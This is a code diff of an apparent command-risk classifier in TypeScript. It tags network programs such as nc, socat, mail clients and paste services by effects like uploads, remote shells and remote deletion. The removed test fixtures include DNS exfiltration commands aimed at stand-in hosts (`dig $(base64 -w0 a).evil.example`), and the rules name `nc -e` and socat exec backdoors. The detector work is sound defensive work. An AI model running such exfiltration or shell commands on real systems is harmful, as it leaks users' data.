@@ -1,43 +1,125 @@
-import type { Argument, Call, Family, Finding, ProgramDescriptor } from './descriptor.ts';
-import { isLocalAddress } from './requests.ts';
-import { does, effect, loses, option, printers, sharing, shows } from './shapes.ts';
-import { byLosingVerb } from './verbs.ts';
-import { nc, socat } from './netcat.ts';
-import { mail, sent, sender, transfer, topics } from './senders.ts';
+import type {
+  CommandDescriptor,
+  Family,
+  FixedEffect,
+  OptionSpec,
+  OptionTable,
+  OptionValue,
+  ProgramDescriptor,
+} from './descriptor.ts';
+import { does, effect, ifSaid, loses, option, printers, sends, sharing, shows } from './shapes.ts';
+
+/** Sends mail with what is attached. */
+const mail = (): ProgramDescriptor => ({
+  summary: 'sends mail',
+  options: {
+    '-a -A --attach --attachments --attach-body': 'text',
+    '-i -s -c -b -r -S -q -f -H --subject --to --from --server --header --body -t': 'text',
+  },
+  optionValue: [{ of: '-a', use: 'read' }],
+  cases: [
+    { when: { atLeast: 1 }, effects: [sends('uploads', 'shares', 'remote_change')] },
+    { when: { any: ['-a', '-i'] }, effects: [sends('uploads', 'shares', 'remote_change')] },
+  ],
+});
+
+/** Something leaves the machine. */
+const sent: FixedEffect = sends('uploads');
+
+const received: FixedEffect = effect('network', 'network:download');
+
+/** Sends what it is given, by operand, option or input. */
+const sender = (summary: string, options: OptionTable = {}): ProgramDescriptor => ({
+  summary,
+  options,
+  operands: { rest: { as: 'read', certainty: 'possible' } },
+  stdin: 'data',
+  cases: [{ when: { atLeast: 1 }, effects: [sent] }],
+  informational: ['--help', '--version', '-h', '-V', '-v'],
+});
+
+/** Sends with some subcommands, receives with others. */
+const transfer = (summary: string, sending: string, receiving: string): ProgramDescriptor => {
+  const sends = (): CommandDescriptor => ({
+    options: { '-r -p --text --code --expire -e -n': 'text' },
+    operands: { rest: { as: 'read', recursive: true, certainty: 'possible' } },
+    stdin: 'data',
+    effects: [sent],
+  });
+  return { summary, subcommands: { [sending]: sends, [receiving]: does(received) } };
+};
+
+/** Sends messages to a topic that others read. */
+const topics = (): ProgramDescriptor => ({
+  summary: 'sends messages to a topic',
+  options: {
+    '-f --file': { value: 'read', effects: [sent] },
+    '-l --stdin-line -s --stdin-file': option(sent),
+    '-P': { operands: { rest: 'read' }, effects: [sent] },
+    '-m --message': 'data',
+    '-h --host -b --bootstrap-server': { as: 'url', direction: 'both' },
+    '-t --topic -p --port -u -K -q -i --id --cafile --cert --key': 'text',
+  },
+  stdin: 'data',
+});
+
+/** The other end of the connection gets a shell here. */
+const backdoor: OptionSpec = {
+  value: { as: 'shell', tags: ['runs_code'] },
+  effects: [effect('execute', 'program:remote shell', 'downloaded_code', 'runs_code')],
+};
+
+/** `nc` and the programs like it. */
+const nc = (): ProgramDescriptor => ({
+  summary: 'connects to or listens on a port',
+  options: {
+    '-e -c --exec --sh-exec --lua-exec': backdoor,
+    '-l --listen -k': option(effect('network', 'network:listen')),
+    '-p -s -w -q -i -x -X -T -O -P -I -V -g -G --source-port --wait --proxy --proxy-type --idle-timeout --max-conns': 'text',
+    '-o --output --append-output': 'write',
+    '-U --unixsock': 'read',
+  },
+  operands: { first: [{ as: 'url', direction: 'both' }] },
+  stdin: 'data',
+  cases: [{ when: { any: ['-l'] }, operands: { rest: 'text' } }],
+});
+
+const LISTENS = '(?i)^[\\w-]*?(?:listen|recv)';
+const firstPart = ['^[\\w-]+:?["\']?([^,]*?)["\']?(?:,[^]*)?$', '$1'] as const;
+
+/** What an address of socat runs, opens, listens on or connects to. Source: socat(1). */
+const addresses: readonly OptionValue[] = [
+  { fits: '^[?]$', effects: [{ kind: 'unknown', tags: ['dynamic'] }] },
+  {
+    fits: '(?i)^(?:exec|system|shell)(?![\\w-])',
+    take: firstPart,
+    use: { as: 'shell', tags: ['runs_code'] },
+    effects: [effect('execute', 'program:remote shell', 'downloaded_code', 'runs_code')],
+  },
+  { fits: LISTENS, effects: [effect('network', 'network:listen')] },
+  {
+    fits: '(?i)^(?:tcp|udp|ssl|openssl|sctp|proxy|socks)',
+    unless: LISTENS,
+    take: firstPart,
+    use: { as: 'url', direction: 'both' },
+  },
+  { fits: '(?i)^(?:create|open|file|gopen)(?![\\w-])', take: firstPart, use: 'update' },
+  { fits: '(?i)^unix(?:-(?:connect|client|sendto))?(?![\\w-])', take: firstPart, use: 'read' },
+];
+
+/** `socat`. */
+const socat = (): ProgramDescriptor => ({
+  summary: 'joins two data channels',
+  style: 'posix',
+  options: { '-t -T -b -L -W -lf': 'text' },
+  stdin: 'data',
+  optionValue: addresses,
+});
 
 const lookUp = (): ProgramDescriptor => ({
   summary: 'asks name servers or hosts',
   options: { '-p': 'text' },
   operands: { rest: { as: 'url', method: 'dns' } },
-  match: { 'dig $(base64 -w0 a).evil.example': 'network #uploads', 'getent hosts $(id -un).x.example.com': 'network #uploads' },
-  notMatch: {
-    'dig +short example.com': '* #uploads; unknown',
-    'ping -c 1 example.com': '* #uploads',
-    'ping -c 1 $(hostname).local': '* #uploads',
-    'dig $API_HOST.x.example.com': '* #uploads',
-  },
-});
-
-const nmap = (): ProgramDescriptor => ({
-  summary: 'looks for open ports',
-  options: {
-    '--script': 'text',
-    '--script-args -p -D -e -S -g --top-ports --max-rate --min-rate -T --exclude': 'text',
-    '-iL --excludefile --script-args-file': 'read',
-    '-oN -oX -oG -oA -oS': 'write',
-    '--interactive': option(effect('unknown', 'program:shell', 'runs_code')),
-    '-A -sS -sV -sn -sT -sU -Pn -O -v -n -F -6': 'flag',
-  },
-  style: 'long',
-  operands: { rest: 'url' },
-  inspect: (call: Call) =>
-    call
-      .values('--script')
-      .flatMap(({ text }): Finding[] =>
-        text === undefined || /[/.]/.test(text) ? [effect('unknown', 'program:script', 'runs_code')] : [],
-      ),
-  match: { 'nmap --script=/tmp/x.nse h.example': 'unknown #runs_code', 'nmap -oN /etc/x h.example': 'write /etc/x' },
-  notMatch: { 'nmap -sV -p 80 localhost': 'unknown; write' },
 });
 
 const capture = (): ProgramDescriptor => ({
@@ -48,8 +130,6 @@ const capture = (): ProgramDescriptor => ({
     '-z': { as: 'shell', tags: ['runs_code', 'dynamic'] },
     '-i -c -s -C -G -W -Z -f -Y -T -e -E -M -m -D': 'text',
   },
-  match: { 'tcpdump -w c -z ./x.sh': 'write /w/c; execute #runs_code' },
-  notMatch: { 'tcpdump -i lo -c 5': 'write; unknown' },
 });
 
 /** `tshark`: its `-z` names a statistic, and a capture file is read. Lua scripts that it is given run. Source: its manual. */
@@ -61,12 +141,9 @@ const tshark = (): ProgramDescriptor => ({
     '-X': { as: 'text' },
     '-z -i -c -s -C -G -W -f -Y -R -T -e -E -M -m -D -O -j -J -t -u -K -b -a -B -d -o -N -F -y': 'text',
   },
-  inspect: call =>
-    call.values('-X').some(({ text = 'lua_script' }) => text.startsWith('lua_script'))
-      ? [effect('unknown', 'code:lua', 'runs_code', 'inline_code')]
-      : [],
-  match: { 'tshark -w c': 'write /w/c', 'tshark -X lua_script:x.lua': 'unknown #runs_code' },
-  notMatch: { 'tshark -r x.pcap -q -z io,phs': 'unknown; execute #runs_code' },
+  keyword: [
+    { when: { value: { '-X': '^(?:lua_script|[?]$)' } }, effects: [effect('unknown', 'code:lua', 'runs_code', 'inline_code')] },
+  ],
 });
 
 const transfers: Readonly<Record<string, readonly [summary: string, sending: string, receiving: string]>> = {
@@ -82,39 +159,6 @@ const transfers: Readonly<Record<string, readonly [summary: string, sending: str
   sendme: ['sends files to another person', 'send', 'receive'],
 };
 
-const grpc = (): ProgramDescriptor => ({
-  summary: 'calls a remote procedure',
-  options: {
-    '-d': 'data',
-    '-H -proto -import-path -protoset -authority -max-time -connect-timeout -rpc-header -reflect-header': 'text',
-    '-cacert -cert -key': 'text',
-    '-plaintext -insecure -v -vv -emit-defaults': 'flag',
-  },
-  style: 'long',
-  operands: { first: [{ as: 'url', direction: 'both' }] },
-  stdin: 'data',
-  inspect: ({ operands: [address, ...words], isTunnelled }) => {
-    const isOwn = isTunnelled !== true && isLocalAddress(address?.text ?? '');
-    const mayLose = ({ text }: Argument): boolean =>
-      text === undefined || /[/.](?:\w*(?:Delete|Destroy|Remove|Purge|Drop|Terminate|Truncate|Reset|Revoke))/.test(text);
-    if (isOwn || /^(?:list|describe)$/.test(words[0]?.text ?? '')) return [];
-    return words.some(mayLose) ? [loses('resource:rpc', 'remote_change')] : [];
-  },
-  match: { 'grpcurl h.example:1 a.B/DeleteUser': 'delete resource:rpc #remote_change' },
-  notMatch: {
-    'grpcurl h.example:1 list': 'delete',
-    'grpcurl -plaintext localhost:1 a.B/Get': '* #uploads',
-    'grpcurl h:1 list "$s"': 'delete',
-  },
-});
-
-const browser = (): ProgramDescriptor => ({
-  summary: 'shows pages in the terminal',
-  style: 'long',
-  options: { '-post_data -get_data': option(sent), '-post': { value: 'read', effects: [sent] }, '-cfg -lss': 'text' },
-  operands: { rest: 'url' },
-});
-
 /** Programs that speak to the network: sockets, names, mail, messages, and what hands data to others. */
 export const sockets: Family = {
   ...sharing('nc ncat netcat nc.traditional nc.openbsd powercat', nc),
@@ -126,7 +170,20 @@ export const sockets: Family = {
     summary: 'prints entries of databases of names',
     subcommands: { 'hosts ahosts ahostsv4 ahostsv6': lookUp, 'shadow gshadow': does(shows('service')) },
   }),
-  ...sharing('nmap masscan', nmap),
+  ...sharing('nmap masscan', () => ({
+    summary: 'looks for open ports',
+    options: {
+      '--script': 'text',
+      '--script-args -p -D -e -S -g --top-ports --max-rate --min-rate -T --exclude': 'text',
+      '-iL --excludefile --script-args-file': 'read',
+      '-oN -oX -oG -oA -oS': 'write',
+      '--interactive': option(effect('unknown', 'program:shell', 'runs_code')),
+      '-A -sS -sV -sn -sT -sU -Pn -O -v -n -F -6': 'flag',
+    },
+    style: 'long',
+    operands: { rest: 'url' },
+    keyword: [{ when: { value: { '--script': '[/.]|^[?]$' } }, effects: [effect('unknown', 'program:script', 'runs_code')] }],
+  })),
   ...sharing('mail mailx s-nail mutt neomutt sendmail msmtp swaks ssmtp mpack', mail),
   ...sharing('tcpdump dumpcap', capture),
   tshark,
@@ -134,43 +191,58 @@ export const sockets: Family = {
   ...Object.fromEntries(
     Object.entries(transfers).map(([name, [summary, sending, receiving]]) => [
       name,
-      (): ProgramDescriptor => ({
-        ...transfer(summary, sending, receiving),
-        match: { [`${name} ${sending.split(' ')[0]} a`]: 'network upload #uploads' },
-      }),
+      (): ProgramDescriptor => transfer(summary, sending, receiving),
     ]),
   ),
   ...sharing(
     'pastebinit pastebin wgetpaste sprunge haste hastebin paste.rs termbin ix fiche 0x0 ctrlv gist gist-paste snip imgur imgurbash2 transfer.sh',
-    () => ({
-      ...sender('puts text on a public page'),
-      effects: [sent],
-      match: { 'pastebinit a': 'read /w/a; network upload #uploads' },
-    }),
+    () => ({ ...sender('puts text on a public page'), effects: [sent] }),
   ),
   ...sharing(
     'telegram-send slackcat slack-cli notify apprise ntfy pushover gotify discord.sh teams-send wall signal-cli matrix-commander amqp-publish nping hping3 megaput mega-put mega-sync gupload onedrive onionshare-cli tarsnap unison clearml-data webwormhole oshi bashupload',
     () => sender('sends messages'),
   ),
-  ...sharing('mosquitto_pub kcat kafkacat kafka-console-producer nats', () => ({ ...topics(), inspect: byLosingVerb })),
+  ...sharing('mosquitto_pub kcat kafkacat kafka-console-producer nats', () => ({ ...topics(), verbClass: [{ of: 'losses' }] })),
   ...sharing('rabbitmqctl rabbitmqadmin rabbitmq-diagnostics', () => ({
     summary: 'works on a broker of messages',
     options: { '-n --node -p --vhost -u --username --password -H --host -P --port': 'text' },
-    inspect: ({ operands }) =>
-      /^(?:force_)?(?:reset|delete\w*|purge\w*|clear_\w+|stop|stop_app|shutdown|forget_\w+|delete|purge)$/.test(
-        operands[0]?.text ?? '',
-      )
-        ? [loses('database:data', 'remote_change')]
-        : [],
-    match: { 'rabbitmqadmin delete queue name=q': 'delete #destructive' },
-    notMatch: { 'rabbitmqctl list_queues': 'delete' },
+    keyword: [
+      ifSaid(
+        /^(?:force_)?(?:reset|delete\w*|purge\w*|clear_\w+|stop|stop_app|shutdown|forget_\w+)(?: |$)/,
+        loses('database:data', 'remote_change'),
+      ),
+    ],
   })),
-  ...sharing('grpcurl evans ghz', grpc),
+  ...sharing('grpcurl evans ghz', () => ({
+    summary: 'calls a remote procedure',
+    options: {
+      '-d': 'data',
+      '-H -proto -import-path -protoset -authority -max-time -connect-timeout -rpc-header -reflect-header': 'text',
+      '-cacert -cert -key': 'text',
+      '-plaintext -insecure -v -vv -emit-defaults': 'flag',
+    },
+    style: 'long',
+    operands: { first: [{ as: 'url', direction: 'both' }] },
+    stdin: 'data',
+    keyword: [
+      { when: { reaches: 'this machine' }, ends: true },
+      { when: { second: '^(?:list|describe)$' }, ends: true },
+      {
+        when: { words: ' (?:[?](?: |$)|\\S*[/.]\\w*(?:Delete|Destroy|Remove|Purge|Drop|Terminate|Truncate|Reset|Revoke))' },
+        effects: [loses('resource:rpc', 'remote_change')],
+      },
+    ],
+  })),
   ...sharing('websocat wscat wsc', () => ({
     summary: 'talks to a web socket',
     options: { '-H --header -c --connect -x': 'text', '-e --exec': { as: 'shell', tags: ['runs_code'] } },
     operands: { rest: { as: 'url', direction: 'both' } },
     stdin: 'data',
   })),
-  ...sharing('lynx w3m links elinks', browser),
+  ...sharing('lynx w3m links elinks', () => ({
+    summary: 'shows pages in the terminal',
+    style: 'long',
+    options: { '-post_data -get_data': option(sent), '-post': { value: 'read', effects: [sent] }, '-cfg -lss': 'text' },
+    operands: { rest: 'url' },
+  })),
 };
